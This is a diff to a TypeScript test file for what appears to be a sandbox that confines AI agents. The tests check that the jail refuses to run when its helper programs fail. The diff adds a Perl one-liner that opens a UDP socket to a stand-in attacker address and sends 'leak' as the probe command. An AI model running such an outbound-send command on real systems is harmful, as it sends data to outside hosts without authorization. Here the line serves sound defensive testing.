@@ -4,6 +4,7 @@
  */
 import t, { type Test } from 'tap'
 import type { Result } from '../lab/host.js'
+import { evil } from '../lab/addresses.js'
 import {
   broken,
   cwd,
@@ -11,6 +12,7 @@ import {
   granted,
   isolations,
   jailed,
+  knocks,
   nothingLeft,
   openBench,
   pathOf,
@@ -21,7 +23,15 @@ import {
   type Bench,
 } from './faults-kit.js'
 
-const run = ({ lab, prefix }: Bench, argv: readonly string[] = ['true']) =>
+/** Tries the attacker once: what runs against expectation, or before its rules, shows on the wire. */
+const ran = [
+  ...['perl', '-MIO::Socket::INET', '-e'],
+  `my $to = IO::Socket::INET->new(PeerAddr => '${evil.v4}:443', Proto => 'udp');
+   send $to, 'leak', 0 if $to;
+   print "ran\\n"`,
+]
+
+const run = ({ lab, prefix }: Bench, argv: readonly string[] = ran) =>
   lab.agentjail([...prefix, '--', ...argv], { timeout: 60_000, cwd })
 
 const refused = (t: Test, { code, stdout, stderr }: Result, name: string, why: RegExp) => {
@@ -37,7 +47,7 @@ const programsFail = async (t: Test, bench: Bench) => {
   const programs = ['bwrap', 'perl', 'nft', ...(isolation === 'namespace' ? ['unshare'] : [])]
   for (const name of programs) {
     const mend = await broken(lab, await pathOf(lab, name), '#!/bin/sh\nexit 9\n')
-    const result = await run(bench, ['echo', 'ran'])
+    const result = await run(bench)
     await mend()
     refused(t, result, `${name} fails`, /^agentjail: /)
     t.same(jailed(lab), [], `${name} fails: no process of the jail`)
@@ -51,7 +61,7 @@ const gateFails = async (t: Test, bench: Bench) => {
   const { lab } = bench
   const script = '#!/bin/sh\necho no such luck >&2\nexit 9\n'
   const mend = await broken(lab, await pathOf(lab, 'setpriv'), script)
-  const result = await run(bench, ['sleep', '30'])
+  const result = await run(bench, knocks)
   await mend()
   t.match(
     result,
